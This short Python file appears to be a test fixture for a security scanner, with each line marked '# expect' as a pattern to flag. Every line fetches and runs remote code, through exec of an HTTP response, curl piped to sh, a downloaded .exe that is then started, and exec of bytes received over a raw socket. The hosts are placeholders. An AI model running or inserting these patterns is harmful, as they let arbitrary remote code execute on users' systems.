import os
import urllib.request

import requests

exec(requests.get("https://example.com/x").text)  # expect
urllib.request.urlretrieve("https://example.com/x.exe", "x.exe")
os.startfile("x.exe")  # expect
os.system("curl https://example.com/x.sh | sh")  # expect

import socket

os.system("curl -s https://example.com/tool.exe -o tool.exe && tool.exe")  # expect
link = socket.create_connection(("192.0.2.7", 443))
exec(link.recv(4096))  # expect
